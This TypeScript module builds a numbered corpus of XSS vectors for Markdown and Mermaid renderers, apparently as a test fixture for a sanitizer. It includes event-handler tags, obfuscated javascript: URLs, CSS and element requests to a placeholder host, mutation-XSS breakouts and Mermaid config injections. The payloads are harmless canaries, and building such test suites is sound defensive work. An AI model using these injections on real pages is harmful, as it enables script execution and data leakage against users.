/** What a stranger might write to make a page do something: run a script, ask another host, open a dialog.
 *  Each is a pattern of Markdown with the name of the effect where its own number goes. */

export interface Vector {
  readonly id: number;
  readonly name: string;
  readonly markdown: string;
}

/** Payloads. `№` is the vector's number. */
const RUN = "fired(№)";
const HOST = "//canary.invalid/№";
const NUMBER = /№/g;

type Pattern = readonly [name: string, markdown: string];

/** Elements that run a handler by themselves, or when they are used. `%` is the handler with its value. */
const HANDLERS: readonly string[] = [
  "<img src=x %onerror>",
  "<image src=x %onerror>",
  "<svg %onload></svg>",
  "<body %onload>",
  "<iframe %onload></iframe>",
  "<details open %ontoggle>x</details>",
  "<video src=x %onerror></video>",
  "<audio src=x %onerror></audio>",
  "<video><source src=x %onerror></video>",
  "<input autofocus %onfocus>",
  "<textarea autofocus %onfocus></textarea>",
  "<object data=x: %onerror></object>",
  "<link rel=stylesheet href=x: %onerror>",
  "<script src=x: %onerror></script>",
  "<style %onload></style>",
  "<input type=image src=x %onerror>",
  "<svg><image href=x %onerror></svg>",
  "<svg><animate %onbegin attributeName=x dur=1s></svg>",
  "<picture><img srcset=x %onerror></picture>",
  "<a %onclick>x</a>",
  "<button %onclick>x</button>",
  "<p %onmouseover>x</p>",
  "<form %onsubmit><button>x</button></form>",
  "<select %onfocus><option>x</select>",
];

/** Ways to write a handler: what escapes a filter may differ. */
const WRITINGS: readonly (readonly [name: string, write: (event: string) => string])[] = [
  ["plain", (event) => `${event}=${RUN}`],
  ["capitals", (event) => `${event.toUpperCase()} = "${RUN}"`],
  ["entities", (event) => `${event}='&#102;ired&lpar;№&#x29;'`],
  ["broken", (event) => `title=">"\n${event}\n=\n${RUN}`],
];

function handlers(): Pattern[] {
  return HANDLERS.flatMap((carrier) =>
    WRITINGS.map(([name, write]): Pattern => {
      const markdown = carrier.replace(/%(\w+)/, (_, event: string) => write(event));
      return [`handler ${name}: ${carrier}`, markdown];
    }),
  );
}

/** Addresses that run, as an author may write them. */
const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#1;javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#32;javascript:${RUN}`,
  `javascript://x%0A${RUN}`,
  `javascript:%66ired(№)`,
  `javascript\\:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `vbscript:${RUN}`,
];

const LINKS: readonly Pattern[] = [
  ["link", "[x](<A>)"],
  ["reference", "[x][r№]\n\n[r№]: <A>"],
  ["titled", '[x](<A> "x\\" onmouseover=\\"fired(№)")'],
  ["element", '<a href="A">x</a>'],
  ["around a picture", "[![x](x.png)](<A>)"],
];

function links(): Pattern[] {
  const inLinks = ADDRESSES.flatMap((address) =>
    LINKS.filter(([name]) => name === "element" || !address.includes("<")).map(
      ([name, markdown]): Pattern => [
        `${name}: ${JSON.stringify(address)}`,
        markdown.replace("A", () => address),
      ],
    ),
  );
  const others = [
    `<javascript:${RUN}>`,
    `<JAVASCRIPT:${RUN}>`,
    `![x](javascript:${RUN})`,
    `![x](data:image/svg+xml,<svg/onload=${RUN}>)`,
    `![x](<data:text/html,<script>${RUN}</script>>)`,
  ];
  return [...inLinks, ...others.map((markdown): Pattern => [`address: ${markdown}`, markdown])];
}

/** Asks another host, in Markdown and in elements. */
const REQUESTS: readonly string[] = [
  `![x](${HOST})`,
  `![x](http:${HOST}.png)`,
  `![x](<http:${HOST}.svg> "title")`,
  `![x][r№]\n\n[r№]: ${HOST}`,
  `![r№]\n\n[r№]: http:${HOST}.gif`,
  `![x](/\\canary.invalid/№)`,
  `![x](\\\\\\\\canary.invalid/№)`,
  `![x](&#47;/canary.invalid/№)`,
  `![x](h&#116;tp:${HOST})`,
  `[![x](${HOST}.png)](#)`,
  `<img src=${HOST}>`,
  `<img srcset="${HOST} 2x">`,
  `<picture><source srcset=${HOST}><img></picture>`,
  `<video poster=${HOST}></video>`,
  `<video src=${HOST}></video>`,
  `<audio src=${HOST} autoplay></audio>`,
  `<video><source src=${HOST}></video>`,
  `<iframe src=${HOST}></iframe>`,
  `<embed src=${HOST}>`,
  `<object data=${HOST}></object>`,
  `<script src=${HOST}></script>`,
  `<script type=module src=${HOST}></script>`,
  `<link rel=stylesheet href=${HOST}>`,
  `<link rel=preload as=image href=${HOST}>`,
  `<link rel=modulepreload href=${HOST}>`,
  `<input type=image src=${HOST}>`,
  `<body background=${HOST}>`,
  `<table background=${HOST}><tr><td>x</table>`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<base href=${HOST}/><img src=x>`,
  `<form action=${HOST}><button>x</button></form>`,
  `<form><button formaction=${HOST}>x</button></form>`,
  `<svg><image href=${HOST} width=9 height=9></svg>`,
  `<svg><image xlink:href=${HOST} width=9 height=9></svg>`,
  `<svg><filter id=f><feImage href=${HOST} /></filter><rect filter=url(#f) width=9 height=9></svg>`,
  `<svg><style>@import '${HOST}'</style></svg>`,
  `<style>@import '${HOST}';</style>`,
  `<style>@import url(${HOST});</style>`,
  `<style>body{background:url(${HOST})}</style>`,
  `<style>body{background:\\75rl(${HOST})}</style>`,
  `<style>body{list-style:url(${HOST});display:list-item}</style>`,
  `<style>body::after{content:url(${HOST})}</style>`,
  `<style>@font-face{font-family:f;src:url(${HOST})}body{font-family:f}</style>x`,
  `<p style="background:url(${HOST})">x</p>`,
  `<p style="background:image-set('${HOST}' 1x)">x</p>`,
  `<p style="background:u&#114;l(${HOST})">x</p>`,
  `<p style="border-image:url(${HOST}) 1;border:1px solid">x</p>`,
  `<p style="mask-image:url(${HOST})">x</p>`,
  `<p style="filter:url(${HOST}#f)">x</p>`,
  `<script>fetch('${HOST}')</script>`,
  `<script>new Image().src='${HOST}'</script>`,
  `<script>navigator.sendBeacon('${HOST}')</script>`,
  `<script>import('http:${HOST}')</script>`,
  `<script>location='${HOST}'</script>`,
];

/** Scripts in elements of their own. */
const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script/x>${RUN}</script >`,
  `<script\n>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script><!--\n${RUN}\n--></script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script>alert(№)</script>`,
  `<script>confirm(№)</script>`,
  `<script>prompt(№)</script>`,
  `<img src=x onerror=alert(№)>`,
  `<svg onload=confirm(№)></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="java&Tab;script:parent.${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:parent.${RUN}"></object>`,
  `<embed src="javascript:parent.${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<form id=f№></form><button form=f№ formaction="javascript:${RUN}">x</button>`,
  `<input type=submit formaction=javascript:${RUN} form=g№><form id=g№></form>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>&#102;ired(№)</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  `<svg><a href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=9>x</text></a></svg>`,
  `<svg><a><set attributeName=href to="javascript:${RUN}" /><text y=9>x</text></a></svg>`,
  `<svg><set onbegin=${RUN} attributeName=x to=1 /></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN} />#x"></svg>`,
  `<math><mi href="javascript:${RUN}">x</mi></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<style>@keyframes k№{}</style><p style="animation:k№ 1ms" onanimationend=${RUN}>x</p>`,
];

/** Markup that hides in comments, broken tags, marks of Markdown and text that is decoded twice. */
const HIDDEN: readonly string[] = [
  `<!-- --><img src=x onerror=${RUN}>`,
  `<!--> <img src=x onerror=${RUN}> -->`,
  `<!-- x --!><img src=x onerror=${RUN}>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?x ><img src=x onerror=${RUN}>`,
  `<!x ><img src=x onerror=${RUN}>`,
  `</p><img src=x onerror=${RUN}>`,
  `</code></pre></div><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<math><mi><style><img src=x onerror=${RUN}></style></mi></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>"></svg>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<select><option></select><img src=x onerror=${RUN}>`,
  `<table><img src=x onerror=${RUN}></table>`,
  `<template><p></template><img src=x onerror=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x\tonerror=${RUN}>`,
  `<img src=x\fonerror=${RUN}>`,
  `<img src=x onerror\u0009=\u000c${RUN}>`,
  `<img src=\`x\`onerror=${RUN}>`,
  `<a/b/c/onmouseover=${RUN}>x</a>`,
  `<x onclick=${RUN}>x</x>`,
  `<x contenteditable autofocus onfocus=${RUN} tabindex=1>x</x>`,
  `**<img src=x onerror=${RUN}>**`,
  `*~~<img src=x onerror=${RUN}>~~*`,
  `[<img src=x onerror=${RUN}>](#)`,
  `[a [b](c) <img src=x onerror=${RUN}>](d)`,
  `# <img src=x onerror=${RUN}>`,
  `#### <svg onload=${RUN}></svg>`,
  `- [x] <img src=x onerror=${RUN}>`,
  `1. > <img src=x onerror=${RUN}>`,
  `> <script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>\n===`,
  `|<img src=x onerror=${RUN}>|b|\n|-|-|\n|c|<svg onload=${RUN}>|`,
  `[r№]: x "<img src=x onerror=${RUN}>"\n\n[<svg onload=${RUN}>][r№]`,
  `![x" onerror="${RUN}](x.png)`,
  `![x](x.png "x\\" onerror=\\"${RUN}")`,
  `![x](x.png"onerror="${RUN})`,
  `![<img src=x onerror=${RUN}>](x.png)`,
  `[x](y "' onmouseover='${RUN}")`,
  `[x](y"onmouseover="${RUN})`,
  `<http://x"onmouseover="${RUN}>`,
  `http://x.y/"onmouseover="${RUN}`,
  `\`<img src=x onerror=${RUN}>\``,
  `\`\`\`x"onload="${RUN}\n<img src=x onerror=${RUN}>\n\`\`\``,
  `    <img src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `\\<img src=x onerror=${RUN}\\>`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `＜img src=x onerror=${RUN}＞`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `\${${RUN}}</script><script>${RUN}</script>`,
  `$$\\href{javascript:${RUN}}{x}$$`,
];

function named(kind: string, patterns: readonly string[]): Pattern[] {
  return patterns.map((markdown) => [`${kind}: ${markdown}`, markdown]);
}

const PATTERNS: readonly Pattern[] = [
  ...handlers(),
  ...links(),
  ...named("request", REQUESTS),
  ...named("script", SCRIPTS),
  ...named("hidden", HIDDEN),
];

export const VECTORS: readonly Vector[] = numbered(PATTERNS, 1);

/** Texts for Mermaid, each a whole diagram. */
const MERMAID: readonly string[] = [
  `%%{init: {"securityLevel": "loose"}}%%\nflowchart LR\n  a["<img src=x onerror=${RUN}>"]`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  a["<img src=x onerror=${RUN}>"]\n  click a call fired(№)`,
  `%%{initialize: {'flowchart': {'htmlLabels': true}}}%%\nflowchart LR\n  a["<img src=http:${HOST}>"]`,
  `%%{init: {"dompurifyConfig": {"ADD_TAGS": ["script", "iframe"], "ADD_ATTR": ["onerror", "onload"]}, "htmlLabels": true}}%%\nflowchart LR\n  a["<img src=x onerror=${RUN}>"]`,
  `%%{init: {"themeCSS": "* { background: url(http:${HOST}) }"}}%%\nflowchart LR\n  a --> b`,
  `%%{init: {"themeCSS": "@import 'http:${HOST}';"}}%%\nflowchart LR\n  a --> b`,
  `%%{init: {"fontFamily": "x; background: url(http:${HOST})"}}%%\nflowchart LR\n  a --> b`,
  `%%{init: {"themeVariables": {"lineColor": "red; } * { background: url(http:${HOST})"}}}%%\nflowchart LR\n  a --> b`,
  `%%{%%{x}%%init: {"themeCSS": "* { background: url(http:${HOST}) }"}}%%\nflowchart LR\n  a --> b`,
  `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nflowchart LR\n  a["<img src=x onerror=${RUN}>"]\n  click a href "javascript:${RUN}"`,
  `---\nconfig:\n  themeCSS: "* { background: url(http:${HOST}) }"\n---\nflowchart LR\n  a --> b`,
  `---\ntitle: "<img src=x onerror=${RUN}>"\n---\nflowchart LR\n  a --> b`,
  `flowchart LR\n  a --> b\n  click a call fired(№)`,
  `flowchart LR\n  a --> b\n  click a fired "<img src=x onerror=${RUN}>"`,
  `flowchart LR\n  a --> b\n  click a href "javascript:${RUN}"`,
  `flowchart LR\n  a --> b\n  click a href "java&Tab;script:${RUN}" _self`,
  `flowchart LR\n  a --> b\n  click a "data:text/html,<script>${RUN}</script>" "tip"`,
  `flowchart LR\n  a --> b\n  click a href "vbscript:${RUN}" _top`,
  `flowchart LR\n  a["<script>${RUN}</script>"] --> b["<svg onload=${RUN}>"]`,
  `flowchart LR\n  a["&lt;img src=x onerror=${RUN}&gt;"] --> b["#lt;img src=x onerror=${RUN}#gt;"]`,
  `flowchart LR\n  a["#60;img src=x onerror=${RUN}#62;"] -->|"<img src=x onerror=${RUN}>"| b`,
  `flowchart LR\n  a["\`**<img src=x onerror=${RUN}>** [x](javascript:${RUN})\`"]`,
  `flowchart LR\n  a["\`![x](http:${HOST})\`"] --> b`,
  `flowchart LR\n  a["$$\\\\href{javascript:${RUN}}{x}$$"] --> b`,
  `flowchart LR\n  a["$$\\\\includegraphics{http:${HOST}}$$"]`,
  `flowchart LR\n  subgraph s ["<img src=x onerror=${RUN}>"]\n    a\n  end`,
  `flowchart LR\n  a@{ img: "http:${HOST}.png", label: "x", w: 60, h: 60 }`,
  `flowchart LR\n  a@{ "\\u0069mg": "${HOST}.png", label: "x" }`,
  `flowchart LR\n  a@{ img: "data:image/svg+xml,<svg onload='${RUN}'/>", label: "x" }`,
  `flowchart LR\n  a@{ icon: "fa:<img src=x onerror=${RUN}>", label: "fa:fa-x <svg onload=${RUN}>" }`,
  `flowchart LR\n  a@{ shape: "rect\\"><img src=x onerror=${RUN}>", label: "x" }`,
  `flowchart LR\n  a --> b\n  style a fill:url(http:${HOST})`,
  `flowchart LR\n  a --> b\n  style a fill:#fff,mask-image:url(http:${HOST}),filter:url(http:${HOST}#f)`,
  `flowchart LR\n  a --> b\n  style a mask-image:\\75rl(http:${HOST})`,
  `flowchart LR\n  a --> b\n  style a mask-image:url#40;http#58;${HOST}#41;`,
  `flowchart LR\n  a --> b\n  style a mask-image:image-set("http:${HOST}" 1x)`,
  `flowchart LR\n  a --> b\n  linkStyle 0 stroke:red,filter:url(http:${HOST}#f)`,
  `flowchart LR\n  a:::c --> b\n  classDef c fill:url(http:${HOST}),background:url(http:${HOST})`,
  `flowchart LR\n  a:::c\n  classDef c fill:red;}*{background:url(http:${HOST})`,
  `flowchart LR\n  a:::c\n  classDef c mask:url('${HOST}#m'),clip-path:url("http:${HOST}#c")`,
  `sequenceDiagram\n  participant A as <img src=x onerror=${RUN}>\n  A->>A: <svg onload=${RUN}>\n  Note over A: $$<img src=x onerror=${RUN}>$$`,
  `sequenceDiagram\n  participant A\n  link A: x @ javascript:${RUN}\n  links A: {"y": "javascript:${RUN}", "z": "http:${HOST}"}\n  A->>A: hi`,
  `sequenceDiagram\n  participant A@{ "type": "<img src=x onerror=${RUN}>" }\n  A->>A: hi`,
  `classDiagram\n  class A["<img src=x onerror=${RUN}>"]\n  A : <svg onload=${RUN}>\n  click A href "javascript:${RUN}" "tip"`,
  `classDiagram\n  class A\n  callback A "fired" "tip"\n  style A fill:url(http:${HOST})`,
  `stateDiagram-v2\n  state "<img src=x onerror=${RUN}>" as s\n  s --> t : </style><svg onload=${RUN}>\n  note right of s : <iframe srcdoc="<script>parent.${RUN}</script>">`,
  `stateDiagram-v2\n  s --> t\n  click s href "javascript:${RUN}" "tip"\n  classDef c fill:url(http:${HOST})\n  class s c`,
  `erDiagram\n  "<img src=x onerror=${RUN}>" ||--o{ B : "<svg onload=${RUN}>"`,
  `gantt\n  title <img src=x onerror=${RUN}>\n  section <svg onload=${RUN}>\n  x :a1, 2026-01-01, 1d\n  click a1 href "javascript:${RUN}"\n  click a1 call fired(№)`,
  `pie title <img src=x onerror=${RUN}>\n  "<svg onload=${RUN}>" : 1`,
  `mindmap\n  root)<img src=x onerror=${RUN}>(\n    ::icon(fa x" onload="${RUN})\n    "<svg onload=${RUN}>"`,
  `timeline\n  title <img src=x onerror=${RUN}>\n  2026 : <svg onload=${RUN}>`,
  `journey\n  title <img src=x onerror=${RUN}>\n  section s\n    <svg onload=${RUN}>: 3: <img src=x onerror=${RUN}>`,
  `gitGraph\n  commit id: "<img src=x onerror=${RUN}>" tag: "<svg onload=${RUN}>"`,
  `quadrantChart\n  title <img src=x onerror=${RUN}>\n  "<svg onload=${RUN}>": [0.3, 0.6]`,
  `architecture-beta\n  service a(http:${HOST})[x]\n  service b("<img src=x onerror=${RUN}>")[y]`,
  `C4Context\n  Person(a, "<img src=x onerror=${RUN}>", "x", $sprite="http:${HOST}.png", $link="javascript:${RUN}")`,
  `C4Context\n  System(a, "x", "y", $sprite="http:${HOST}")\n  UpdateElementStyle(a, $bgColor="url(http:${HOST})")`,
  `C4Context\n  System(a, "x", "y")\n  UpdateElementStyle(a, $bgColor="url(${HOST})")`,
  `block-beta\n  a["<img src=x onerror=${RUN}>"]\n  style a fill:url(http:${HOST})`,
  `kanban\n  c["<img src=x onerror=${RUN}>"]\n    t[x]@{ ticket: "x", assigned: "<svg onload=${RUN}>", priority: 'High' }`,
  `requirementDiagram\n  requirement r {\n    id: 1\n    text: "<img src=x onerror=${RUN}>"\n  }`,
  `sankey-beta\n  <img src=x onerror=${RUN}>,b,10`,
  `xychart-beta\n  title "<img src=x onerror=${RUN}>"\n  x-axis ["<svg onload=${RUN}>"]\n  bar [1]`,
  `packet-beta\n  0-7: "<img src=x onerror=${RUN}>"`,
  `</style><img src=x onerror=${RUN}>`,
];

/** Numbers go on, so that an effect names its vector whichever list it is from. */
export const MERMAID_VECTORS: readonly Vector[] = numbered(
  MERMAID.map((text): Pattern => [`mermaid: ${text}`, text]),
  PATTERNS.length + 1,
);

function numbered(patterns: readonly Pattern[], first: number): Vector[] {
  return patterns.map(([name, markdown], index) => {
    const id = first + index;
    return { id, name: name.replaceAll("\n", "⏎"), markdown: markdown.replace(NUMBER, `${id}`) };
  });
}
